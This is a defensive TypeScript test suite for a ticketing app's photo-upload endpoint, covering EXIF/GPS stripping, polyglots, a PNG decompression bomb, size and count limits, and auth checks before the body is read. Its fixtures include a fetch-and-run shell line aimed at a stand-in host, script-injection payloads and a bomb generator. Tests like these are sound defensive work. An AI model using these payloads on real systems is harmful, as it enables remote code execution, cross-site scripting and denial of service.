// Photo uploads as a hostile client would try them: disguised files, polyglots, bombs, hidden GPS, too many, unread when refused.
import { suite } from 'uvu';
import * as assert from 'uvu/assert';
import http from 'node:http';
import { deflateSync, crc32 } from 'node:zlib';
import sharp from 'sharp';
import exifReader from 'exif-reader';
import { startTestServer, type TestServer } from './helpers/server.ts';
import { gridByCode, newTicket, noAutoDispatch, responderIn } from './helpers/fixtures.ts';

const MAX_BYTES = 1_000_000;
interface Ctx { s: TestServer; duty: string; leader: string; mine: string; theirs: string }
const P = suite<Ctx>('photos');

P.before(async (ctx) => {
  ctx.s = await startTestServer({ config: { photoMaxBytes: MAX_BYTES, photoMaxPerTicket: 3 } });
  await noAutoDispatch(ctx.s.sql);
  ctx.duty = await ctx.s.login('duty');
  ctx.leader = await ctx.s.login('leader01');
  ctx.mine = (await ctx.s.api('POST', '/api/tickets', { cookie: ctx.duty, body: newTicket(await gridByCode(ctx.s.sql, '01-2')) })).body.id;
  ctx.theirs = (await ctx.s.api('POST', '/api/tickets', { cookie: ctx.duty, body: newTicket(await gridByCode(ctx.s.sql, '07-3')) })).body.id;
});
P.after(async ({ s }) => s.close());

async function upload(s: TestServer, cookie: string, ticketId: string, bytes: Buffer, type = 'image/jpeg', key?: string) {
  const res = await fetch(`${s.url}/api/tickets/${ticketId}/photos`, {
    method: 'POST', headers: { cookie, 'content-type': type, ...(key ? { 'idempotency-key': key } : {}) }, body: new Uint8Array(bytes),
  });
  return { status: res.status, body: await res.json() };
}

async function newTicketFor(ctx: Ctx): Promise<string> {
  return (await ctx.s.api('POST', '/api/tickets', { cookie: ctx.duty, body: newTicket(await gridByCode(ctx.s.sql, '01-1')) })).body.id;
}

const storedPhotos = (ctx: Ctx, ticketId: string) => ctx.s.sql<{ id: string; bytes: Buffer; content_type: string }[]>`
  SELECT id, bytes, content_type FROM ticket_photos WHERE ticket_id = ${ticketId} ORDER BY id`;

const scene = (width = 400, height = 200) => sharp({ create: { width, height, channels: 3, background: '#c84' } }).jpeg().toBuffer();

/** A phone picture: taken sideways (EXIF orientation 6: the pixels need a quarter turn) at a GPS position. */
async function phonePicture(): Promise<Buffer> {
  return sharp({ create: { width: 400, height: 200, channels: 3, background: '#48c' } }).jpeg().withMetadata({ orientation: 6 })
    .withExifMerge({ IFD0: { Make: 'TestPhone', Model: 'X1' }, IFD3: { GPSLatitudeRef: 'N', GPSLatitude: '38/1 18/1 30/1', GPSLongitudeRef: 'E', GPSLongitude: '116/1 50/1 0/1' } })
    .toBuffer();
}

P('a phone picture is stored upright and without its EXIF: no GPS position, no camera, nothing', async (ctx) => {
  const original = await phonePicture();
  const exif = exifReader((await sharp(original).metadata()).exif!);
  assert.equal(exif.GPSInfo?.GPSLatitude, [38, 18, 30], 'the fixture does carry a position');
  const ticket = await newTicketFor(ctx);
  const res = await upload(ctx.s, ctx.duty, ticket, original);
  assert.is(res.status, 201, JSON.stringify(res.body));
  assert.is(res.body.contentType, 'image/jpeg');
  const [stored] = await storedPhotos(ctx, ticket);
  const meta = await sharp(stored.bytes).metadata();
  assert.is(meta.exif, undefined);
  assert.is(meta.xmp, undefined);
  assert.is(meta.orientation, undefined);
  assert.is(stored.bytes.includes(Buffer.from('Exif\0\0')), false);
  assert.is(stored.bytes.includes(Buffer.from('TestPhone')), false);
  assert.equal([meta.width, meta.height], [200, 400], 'the orientation was applied to the pixels before it was dropped');
});

P('a script named .jpg is refused by its content (415) and nothing is stored', async (ctx) => {
  const ticket = await newTicketFor(ctx);
  for (const [bytes, type] of [
    [Buffer.from('#!/bin/sh\ncurl http://example.invalid/x | sh\n'), 'image/jpeg'],
    [Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'image/svg+xml'],
    [Buffer.from('GIF89a\x01\x00\x01\x00\x00\x00\x00;'), 'image/gif'],
  ] as const) {
    const res = await upload(ctx.s, ctx.duty, ticket, bytes, type);
    assert.is(res.status, 415, bytes.toString().slice(0, 20));
    assert.match(res.body.error.message, 'JPEG, PNG or WebP');
  }
  assert.is((await storedPhotos(ctx, ticket)).length, 0);
});

P('HTML/JPEG polyglots: HTML first is refused; a JPEG carrying HTML is stored re-encoded, without it, and served as an inert image', async (ctx) => {
  const ticket = await newTicketFor(ctx);
  const html = Buffer.from('<html><body><script>fetch("/api/me").then(r=>r.text()).then(alert)</script></body></html>');
  const jpeg = await scene();
  assert.is((await upload(ctx.s, ctx.duty, ticket, Buffer.concat([html, jpeg]))).status, 415);
  // The HTML in a JPEG comment segment (FF FE) right after the start marker, and once more after the end of the image.
  const comment = Buffer.concat([Buffer.from([0xff, 0xfe, (html.length + 2) >> 8, (html.length + 2) & 0xff]), html]);
  const polyglot = Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2), html]);
  const res = await upload(ctx.s, ctx.duty, ticket, polyglot, 'image/jpeg');
  assert.is(res.status, 201, JSON.stringify(res.body));
  const [stored] = await storedPhotos(ctx, ticket);
  assert.is(stored.bytes.includes(Buffer.from('<script')), false);
  const served = await fetch(ctx.s.url + res.body.url, { headers: { cookie: ctx.duty } });
  assert.is(served.status, 200);
  assert.is(served.headers.get('content-type'), 'image/jpeg');
  assert.is(served.headers.get('x-content-type-options'), 'nosniff');
  assert.match(served.headers.get('content-security-policy') ?? '', /default-src 'none'; sandbox/);
  assert.match(served.headers.get('content-disposition') ?? '', new RegExp(`^inline; filename="photo-${res.body.id}\\.jpg"$`));
  assert.ok(Buffer.from(await served.arrayBuffer()).equals(stored.bytes));
});

/** A real 50-megapixel PNG (8000×6250, black and white) that packs into a few kilobytes: a decompression bomb. */
function pngBomb(width = 8000, height = 6250): Buffer {
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'latin1'), data]);
    const len = Buffer.alloc(4); len.writeUInt32BE(data.length);
    const crc = Buffer.alloc(4); crc.writeUInt32BE(crc32(body));
    return Buffer.concat([len, body, crc]);
  };
  const ihdr = Buffer.alloc(13);
  ihdr.writeUInt32BE(width, 0); ihdr.writeUInt32BE(height, 4); ihdr[8] = 1; ihdr[9] = 0; // 1 bit per pixel, greyscale
  const raw = Buffer.alloc(height * (1 + Math.ceil(width / 8))); // every row: filter 0, then all-black pixels
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr), chunk('IDAT', deflateSync(raw, { level: 9 })), chunk('IEND', Buffer.alloc(0))]);
}

P('a 50-megapixel image is refused with 413 before it is decoded; a body over the size limit with 413', async (ctx) => {
  const ticket = await newTicketFor(ctx);
  const bomb = pngBomb();
  assert.ok(bomb.length < 20_000, `the bomb is ${bomb.length} bytes`);
  const res = await upload(ctx.s, ctx.duty, ticket, bomb, 'image/png');
  assert.is(res.status, 413);
  assert.match(res.body.error.message, '8000×6250 (50.0 megapixels); at most 24 megapixels');
  const big = await upload(ctx.s, ctx.duty, ticket, Buffer.alloc(MAX_BYTES + 1, 0xff), 'image/jpeg');
  assert.is(big.status, 413);
  assert.match(big.body.error.message, 'at most 1 MB');
  // The same without Content-Length (chunked): the read stops at the limit.
  const chunked = await new Promise<number>((resolve, reject) => {
    const r = http.request(`${ctx.s.url}/api/tickets/${ticket}/photos`, { method: 'POST', agent: false, headers: { cookie: ctx.duty, 'content-type': 'image/jpeg' } }, (answer) => { answer.resume(); resolve(answer.statusCode!); });
    r.on('error', reject);
    for (let i = 0; i < 20; i++) r.write(Buffer.alloc(100_000, 0xff));
    r.end();
  });
  assert.is(chunked, 413);
  assert.is((await storedPhotos(ctx, ticket)).length, 0);
  // PNG is kept as PNG (re-encoded), like WebP: the stored type is the one its bytes are.
  const png = await sharp({ create: { width: 30, height: 20, channels: 4, background: '#0f08' } }).png().toBuffer();
  const ok = await upload(ctx.s, ctx.duty, ticket, png, 'application/octet-stream');
  assert.is(ok.status, 201);
  assert.is(ok.body.contentType, 'image/png');
});

P('a ticket takes at most three photos (409 after); a retried upload still gets its first answer', async (ctx) => {
  const ticket = await newTicketFor(ctx);
  const ids: string[] = [];
  for (let i = 0; i < 3; i++) {
    const res = await upload(ctx.s, ctx.duty, ticket, await scene(100 + i, 80), 'image/jpeg', `photo-key-${ticket}-${i}`);
    assert.is(res.status, 201);
    ids.push(res.body.id);
  }
  const fourth = await upload(ctx.s, ctx.duty, ticket, await scene(), 'image/jpeg', `photo-key-${ticket}-3`);
  assert.is(fourth.status, 409);
  assert.match(fourth.body.error.message, 'already has 3 photos');
  const retry = await upload(ctx.s, ctx.duty, ticket, await scene(102, 80), 'image/jpeg', `photo-key-${ticket}-2`);
  assert.is(retry.status, 201);
  assert.is(retry.body.id, ids[2]);
  // Several at once cannot squeeze past the limit either.
  const other = await newTicketFor(ctx);
  const answers = await Promise.all(Array.from({ length: 6 }, async (_, i) => (await upload(ctx.s, ctx.duty, other, await scene(50 + i, 50))).status));
  assert.equal(answers.sort(), [201, 201, 201, 409, 409, 409]);
  assert.is((await storedPhotos(ctx, other)).length, 3);
});

/** Sends the headers of a 900 kB upload and no byte of its body: answers the status if the server answers anyway. */
function headersOnly(url: string, headers: Record<string, string>, what: string, ms = 3000): Promise<number> {
  return new Promise((resolve, reject) => {
    // A connection of its own (agent: false): a body that is never sent must not leave a pooled connection half-used.
    const r = http.request(url, { method: 'POST', agent: false, headers: { 'content-type': 'image/jpeg', 'content-length': '900000', ...headers } }, (res) => {
      res.resume();
      // Node closes a connection whose request body was left unread, rather than read and discard it.
      assert.is(res.headers.connection, 'close', `${what}: the server closes the connection instead of draining the body`);
      resolve(res.statusCode!);
      r.destroy();
    });
    const timer = setTimeout(() => { r.destroy(); reject(new Error(`${what}: no answer, the server waited for the body`)); }, ms);
    r.on('close', () => clearTimeout(timer));
    r.on('error', (e) => { clearTimeout(timer); reject(new Error(`${what}: ${e.message}`)); });
    r.flushHeaders();
  });
}

P('an upload by someone who may not add the photo is refused before its body is read', async (ctx) => {
  const url = `${ctx.s.url}/api/tickets/${ctx.theirs}/photos`;
  assert.is(await headersOnly(url, { cookie: ctx.leader }, 'a grid leader of another community'), 403);
  const r = await responderIn(ctx.s.sql, (await gridByCode(ctx.s.sql, '01-2')).id);
  assert.is(await headersOnly(`${ctx.s.url}/api/tickets/${ctx.mine}/photos`, { cookie: await ctx.s.login(r.username) }, 'a responder not on the ticket'), 403);
  // A wall-screen link reads only the live stream: over REST it is nobody.
  assert.is(await headersOnly(url, { authorization: `Display ${ctx.s.displayToken}` }, 'a wall screen'), 401);
  assert.is(await headersOnly(url, {}, 'signed out'), 401);
  assert.is(await headersOnly(`${ctx.s.url}/api/tickets/999999/photos`, { cookie: ctx.duty }, 'no such ticket'), 404);
  assert.is((await storedPhotos(ctx, ctx.theirs)).length, 0);
});

P('a photo stored before photos were checked is cleaned when first read; one that is no image is not served', async (ctx) => {
  const ticket = await newTicketFor(ctx);
  const [legacy] = await ctx.s.sql<{ id: string }[]>`
    INSERT INTO ticket_photos (ticket_id, content_type, bytes) VALUES (${ticket}, 'image/jpeg', ${await phonePicture()}) RETURNING id`;
  const [fake] = await ctx.s.sql<{ id: string }[]>`
    INSERT INTO ticket_photos (ticket_id, content_type, bytes) VALUES (${ticket}, 'image/jpeg', ${Buffer.from('<script>alert(1)</script>')}) RETURNING id`;
  const res = await fetch(`${ctx.s.url}/api/photos/${legacy.id}`, { headers: { cookie: ctx.duty } });
  assert.is(res.status, 200);
  const served = Buffer.from(await res.arrayBuffer());
  assert.is((await sharp(served).metadata()).exif, undefined);
  const [row] = await ctx.s.sql<{ checked: boolean; bytes: Buffer }[]>`SELECT checked, bytes FROM ticket_photos WHERE id = ${legacy.id}`;
  assert.ok(row.checked && row.bytes.equals(served));
  assert.is((await fetch(`${ctx.s.url}/api/photos/${fake.id}`, { headers: { cookie: ctx.duty } })).status, 404);
});

P.run();
